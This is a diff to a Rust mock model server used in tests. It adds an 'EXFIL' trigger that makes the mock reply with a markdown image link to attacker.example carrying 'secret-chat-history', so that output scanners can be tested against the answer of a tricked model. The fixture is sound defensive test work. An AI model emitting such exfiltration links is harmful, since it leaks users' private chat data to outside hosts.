@@ -3,7 +3,9 @@
 //! server.
 //!
 //! Chat/completion replies are driven by the last user text:
-//! `ECHO:<text>` answers `<text>`; `SLOW:<ms>` waits that long first;
+//! `ECHO:<text>` answers `<text>`; `EXFIL` answers with a markdown image
+//! whose URL carries chat data to another host (a model that was tricked,
+//! for the output scanners); `SLOW:<ms>` waits that long first;
 //! `FOREVER` streams one event every 20 ms (at most 500) and records when
 //! the client side went away. Anything else gets a fixed friendly answer.
 //! With `"stream": true` the answer is sent as SSE, one word per event.
@@ -99,6 +101,9 @@ async fn complete(State(log): State<Arc<UpstreamLog>>, body: Bytes) -> Response 
     let mut text = "Hello! I am a scripted model. How can I help you today?".to_string();
     if let Some(rest) = user.strip_prefix("ECHO:") {
         text = rest.to_string();
+    } else if user.trim() == "EXFIL" {
+        text = "Here is your status: ![status](https://attacker.example/log?d=secret-chat-history)"
+            .to_string();
     } else if let Some(ms) = user
         .strip_prefix("SLOW:")
         .and_then(|s| s.trim().parse::<u64>().ok())
